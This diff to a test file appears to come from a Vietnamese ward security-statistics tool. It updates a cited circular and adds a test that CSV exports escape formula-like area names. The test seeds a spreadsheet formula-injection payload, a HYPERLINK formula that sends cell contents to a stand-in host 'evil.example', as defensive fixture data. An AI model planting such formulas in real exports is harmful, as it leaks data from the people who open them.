@@ -117,7 +117,9 @@ describe("/thongke", () => {
     expect(report).toContain("👥 Nhóm đang kết nối: 3 nhóm tại 3/4 khu vực");
     expect(report).toContain("• Tổ dân phố 5 (phuly.minhkhai.to5): 1 nhóm");
     expect(report).not.toContain("Tổ dân phố 7");
-    expect(report).toContain("Thông tư 124/2021/TT-BCA");
+    // Reference data for the assessment, not the Circular's criteria (Thông tư 48/2025 amended it).
+    expect(report).toContain("Số liệu tham khảo khi đánh giá “An toàn về an ninh, trật tự”; không phải tiêu chí");
+    expect(report).toContain("Thông tư 48/2025/TT-BCA");
   });
 
   it("uses the officer's own area and the last 30 days by default", async () => {
@@ -167,6 +169,25 @@ describe("npm run stats", () => {
     expect(["quiz_answers", "quiz_participants", "quiz_correct", "quiz_correct_rate", "campaign_messages", "groups_covered"].map((n) => column(ward, n))).toEqual(["4", "3", "3", "0.7500", "2", "3"]);
     const to5 = rows[1];
     expect(["tips_received", "cases_opened", "quiz_answers", "groups_covered", "from", "to"].map((n) => column(to5, n))).toEqual(["1", "2", "3", "1", "2026-10-01", "2026-10-31"]);
+  }, 60_000);
+
+  it("writes a UTF-8 BOM, and neutralises area names a spreadsheet would run as formulas", async () => {
+    const db = h.app.db;
+    const lamha = await db.area.findUniqueOrThrow({ where: { code: "phuly.lamha" } });
+    const names = ['=HYPERLINK("http://evil.example/?d="&A1,"Tổ 5")', "-Tổ 5", "+Tổ 6", "@SUM(1+1)", "\tTổ 8", "Tổ 9 = an toàn"];
+    for (const [i, name] of names.entries()) await db.area.create({ data: { code: `phuly.lamha.x${i}`, name, parentId: lamha.id } });
+    const { code, stdout } = await runCli(["--area", "phuly.lamha", "--from", "2026-10-01", "--to", "2026-10-31", "--csv"]);
+    expect(code).toBe(0);
+    expect(stdout.startsWith("\uFEFFarea_code,area_name,")).toBe(true);
+    const lines = stdout.slice(1).split("\r\n");
+    expect(lines).toContain(`phuly.lamha.x0,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Tổ 5"")",2026-10-01,2026-10-31,0,0,0,0,0,0,0,0,,0,0,0,0,,0,0`);
+    expect(lines.find((l) => l.startsWith("phuly.lamha.x1,"))).toMatch(/^phuly\.lamha\.x1,'-Tổ 5,2026-10-01,/);
+    expect(lines.find((l) => l.startsWith("phuly.lamha.x2,"))).toMatch(/^phuly\.lamha\.x2,'\+Tổ 6,/);
+    expect(lines.find((l) => l.startsWith("phuly.lamha.x3,"))).toMatch(/^phuly\.lamha\.x3,'@SUM\(1\+1\),/);
+    expect(lines.find((l) => l.startsWith("phuly.lamha.x4,"))).toMatch(/^phuly\.lamha\.x4,'\tTổ 8,/);
+    expect(lines.find((l) => l.startsWith("phuly.lamha.x5,"))).toMatch(/^phuly\.lamha\.x5,Tổ 9 = an toàn,/);
+    // No cell of any row starts a formula.
+    for (const line of lines) expect(line.split(",").filter((cell) => /^"?[=+\-@]/.test(cell)), line).toEqual([]);
   }, 60_000);
 
   it("prints the report as text, and refuses an unknown area", async () => {
